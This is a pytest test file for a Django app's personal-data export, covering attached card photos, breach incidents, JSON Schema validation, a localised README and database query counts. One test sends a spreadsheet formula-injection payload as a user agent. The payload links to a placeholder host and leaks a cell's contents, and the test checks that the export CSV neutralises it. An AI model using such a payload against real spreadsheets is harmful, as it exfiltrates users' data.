"""The access export: files, incidents, schema.json, README.txt, and one section per activity."""

import copy
import csv
import hashlib
import io
import json
import re
import zipfile

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from PIL import Image

from tessera.cards import services as cards_services
from tessera.privacy import services
from tessera.privacy.exports import export_build, export_data, export_zip, schema_errors
from tessera.privacy.models import Incident
from tessera.privacy.register import registry
from tests.factories import CardFactory, EventFactory, OrganisationFactory


def jpeg_bytes(size=(800, 600), colour=(10, 120, 200)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, format="JPEG")
    return out.getvalue()


pytestmark = pytest.mark.django_db

# What building a subject's export costs today, whatever the number of their rows in each app (the
# directory adds two: the identities a directory gave the person and the connections they made; signatures
# one: the person's pushes to Gmail; support one for its tickets, one for its complaints, one for testimonials,
# and two for customer files: the person's own file and the files naming them as a contact; the terms of use
# one for their acceptances, the data processing agreement one for the acceptances they gave). Exact, as
# before: a new query must raise it on purpose.
EXPORT_QUERIES = 41


def download(client, path="/en/privacy/account/act/export/") -> zipfile.ZipFile:
    # Downloading the whole account needs a recent sign-in (the privacy conftest's user's password).
    assert (
        client.post("/en/accounts/reauthenticate/", {"password": "correct horse battery"}).status_code == 302
    )
    response = client.post(path)
    assert response.status_code == 200 and response["Content-Type"] == "application/zip"
    return zipfile.ZipFile(io.BytesIO(response.content))


def sections_of(archive) -> dict:
    return {s["category"]: s for s in json.loads(archive.read("data.json"))["sections"]}


@pytest.fixture
def card_with_photo(user):
    card = cards_services.card_create(owner=user, first_name="Ada", last_name="L")
    return cards_services.card_photo_set(card=card, data=jpeg_bytes(), filename="me.jpg")


def test_the_export_holds_the_card_photo_itself(client, user, card_with_photo):
    client.force_login(user)
    archive = download(client)
    cards = sections_of(archive)["cards"]
    (listed,) = cards["files"]
    photo = archive.read(listed["path"])
    assert listed["path"].startswith("files/cards/") and listed["content_type"] == "image/jpeg"
    assert photo == bytes(card_with_photo.photo)
    assert listed["bytes"] == len(photo) and listed["sha256"] == hashlib.sha256(photo).hexdigest()
    assert Image.open(io.BytesIO(photo)).format == "JPEG"
    assert cards["rows"][0]["photo_file"] == listed["name"]
    assert listed["path"] in archive.read("README.txt").decode()
    assert listed["path"] in archive.read("summary.html").decode()


def test_incidents_listing_the_address_are_exported_and_the_listing_is_kept_on_erasure(user):
    concerning = Incident.objects.create(
        title="Mis-sent export",
        nature="An export was emailed to the wrong address.",
        people_categories="Account holders",
        record_categories="Contact details",
        consequences="Disclosure of a name.",
        measures="The recipient deleted it.",
        affected_emails=f"someone@example.org\n  {user.email.upper()}  \nother@example.org",
    )
    Incident.objects.create(
        title="Another breach",
        nature="x",
        people_categories="x",
        record_categories="x",
        consequences="x",
        measures="x",
        affected_emails=f"not-{user.email}\n{user.email}.example.net",  # contains it, but is not it
    )
    data = export_data(services.subject_resolve(user.email))
    (section,) = [s for s in data["sections"] if s["activity"] == "privacy.incidents"]
    assert [r["title"] for r in section["rows"]] == [concerning.title]
    assert section["rows"][0]["measures"] == "The recipient deleted it."
    record = services.rights_erase(email=user.email, channel="portal")
    kept = next(o for o in record.outcome["outcomes"] if o["activity"] == "privacy.incidents")
    assert kept["kept"] == 1 and "Art. 34" in kept["reason_kept"]
    concerning.refresh_from_db()
    assert user.email.upper() in concerning.affected_emails  # still to be notified


def test_schema_json_documents_every_section_and_data_json_validates_against_it(
    client, user, card_with_photo
):
    services.consent_record(
        email=user.email, purpose="marketing", text="Send me news", text_version="7", method="checkbox"
    )
    client.force_login(user)
    archive = download(client)
    data = json.loads(archive.read("data.json"))
    schema = json.loads(archive.read("schema.json"))
    assert schema["$schema"].endswith("2020-12/schema") and schema["$id"] == data["schema"]
    assert schema_errors(data, schema) == []
    for section in data["sections"]:
        definition = schema["$defs"][f"section:{section['activity']}/{section['category']}"]
        activity = registry.activities[section["activity"]]
        declared = definition["x-register"]["declared_fields"]
        assert len(declared) == sum(len(names) for names in activity.fields.values())
        row_schema = definition["properties"]["rows"]["items"]
        for row in section["rows"]:
            assert set(row) <= set(row_schema["properties"])
        assert all(p["description"] for p in row_schema["properties"].values())
    consents = schema["$defs"]["section:privacy.consent_ledger/consents"]["properties"]["rows"]["items"]
    assert consents["properties"]["text"]["description"] == "The exact text you were shown"
    account = schema["$defs"]["section:accounts.account/account"]["properties"]["rows"]["items"]
    assert account["properties"]["email"]["description"] == "email address"  # the field's verbose name


def test_schema_json_rejects_data_that_does_not_follow_it(client, user):
    client.force_login(user)
    archive = download(client)
    data = json.loads(archive.read("data.json"))
    schema = json.loads(archive.read("schema.json"))
    account = next(s for s in data["sections"] if s["category"] == "account")

    extra_column = copy.deepcopy(data)
    next(s for s in extra_column["sections"] if s["category"] == "account")["rows"][0]["shoe_size"] = 42
    wrong_type = copy.deepcopy(data)
    next(s for s in wrong_type["sections"] if s["category"] == "account")["rows"][0]["email"] = 5
    unknown_section = copy.deepcopy(data)
    unknown_section["sections"].append({**account, "category": "secret_profile"})
    missing_key = copy.deepcopy(data)
    del missing_key["generated_at"]
    bad_date = copy.deepcopy(data)
    bad_date["generated_at"] = "yesterday"
    for broken in (extra_column, wrong_type, unknown_section, missing_key, bad_date):
        assert schema_errors(broken, schema)


def test_the_readme_explains_the_files_in_the_language_of_the_request(client, user, card_with_photo):
    client.force_login(user)
    english = download(client).read("README.txt").decode()
    assert english.startswith("Your personal data")
    for name in ("data.json", "schema.json", "summary.html", "csv/account.csv", "files/cards/"):
        assert name in english, name
    assert "JSON Schema" in english
    french = download(client, "/privacy/account/act/export/")
    assert french.read("README.txt").decode().startswith("Vos données personnelles")
    assert json.loads(french.read("data.json"))["language"] == "fr"


@pytest.mark.parametrize("name", sorted(registry.activities))
def test_every_activity_declaring_personal_fields_has_an_export_section(name, user):
    """Registry-driven: an activity's data must reach the person's export (Art. 15)."""
    activity = registry.activities[name]
    assert activity.fields  # every activity declares the model fields it processes
    if name in registry.not_exported:  # left out on purpose, with the reason shown in the export
        assert len(str(registry.not_exported[name])) > 40
        data = export_data(services.subject_resolve(user.email))
        assert {"activity": name, "reason": str(registry.not_exported[name])} in data["not_exported"]
        return
    exported = {s.activity for s in services.subject_export(services.subject_resolve(user.email))}
    assert name in exported, f"{name} declares {activity.fields} but no export handler returns it"


def test_a_formula_in_a_user_agent_comes_out_of_the_export_csv_as_text(client, user):
    """The user agent of a sign-in lands in csv/security_log.csv: a spreadsheet must not run it."""
    agent = '=HYPERLINK("http://x.example/?leak="&A1,"Click")'
    page = client.get("/accounts/login/", HTTP_USER_AGENT=agent).content.decode()
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page).group(1)
    signed_in = client.post(
        "/accounts/login/",
        {"csrfmiddlewaretoken": token, "login": user.email, "password": "correct horse battery"},
        HTTP_USER_AGENT=agent,
        HTTP_ORIGIN="http://testserver",
    )
    assert signed_in.status_code == 302
    archive = download(client)
    assert agent in {row["user_agent"] for row in sections_of(archive)["security_log"]["rows"]}
    rows = list(csv.DictReader(io.StringIO(archive.read("csv/security_log.csv").decode())))
    agents = {row["user_agent"] for row in rows}
    assert "'" + agent in agents and agent not in agents


def _data_in_every_app(user, count: int) -> None:
    """`count` more rows about `user` in each app: cards, organisations, leads, meetings, consents, requests."""
    from tests.cards.conftest import lead_for

    for _ in range(count):
        OrganisationFactory(owner=user)  # a membership and a card in it
        CardFactory(owner=user)
        lead_for(CardFactory(), email=user.email, name="Ada L")  # details left on someone's card
        EventFactory(organiser_email=user.email)
        EventFactory(invitees=[user.email])
        services.consent_record(
            email=user.email, purpose="marketing", text="Send me news", text_version="7", method="checkbox"
        )
        services.rights_request_create(email=user.email, kind="access", channel="email")


def _export_queries(user) -> list[str]:
    with CaptureQueriesContext(connection) as queries:
        archive = zipfile.ZipFile(io.BytesIO(export_zip(export_build(services.subject_resolve(user.email)))))
    sections = sections_of(archive)
    fed = ["cards", "memberships", "details_you_exchanged", "events organised", "invitations received"]
    assert all(sections[category]["rows"] for category in [*fed, "consents", "rights_requests"])
    return [q["sql"] for q in queries.captured_queries]


def test_the_export_of_a_subject_with_data_in_every_app_reads_a_bounded_number_of_queries(
    user, card_with_photo, settings
):
    settings.TESSERA_CARDS_POW_BITS = 8
    _data_in_every_app(user, 1)
    queries = _export_queries(user)
    assert len(queries) <= EXPORT_QUERIES, queries


def test_the_export_reads_as_many_queries_for_ten_rows_per_app_as_for_one(user, card_with_photo, settings):
    settings.TESSERA_CARDS_POW_BITS = 8
    _data_in_every_app(user, 1)
    single = _export_queries(user)
    _data_in_every_app(user, 9)
    many = _export_queries(user)
    assert len(many) == len(single), [q for q in many if q not in single]
